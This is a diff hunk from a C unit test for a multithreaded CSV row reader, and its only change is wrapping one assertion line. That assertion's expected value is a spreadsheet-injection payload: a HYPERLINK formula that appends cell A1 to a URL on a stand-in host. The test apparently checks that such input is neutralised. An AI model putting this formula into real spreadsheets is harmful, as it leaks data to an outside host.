@@ -59,7 +59,8 @@ static void test_threads(void **state)
 		assert_int_equal(reader_open(jobs[i].path, NULL, &r, &err), 0);
 		assert_int_equal(reader_next(r, &row, &err), 1);
 		assert_int_equal(row.nf, 3);
-		assert_string_equal(row.f[0].p, "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")");
+		assert_string_equal(row.f[0].p,
+		                    "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")");
 		assert_string_equal(row.f[1].p, "-1234.50");
 		assert_string_equal(row.f[2].p, "Alfa AB");
 		reader_close(r);
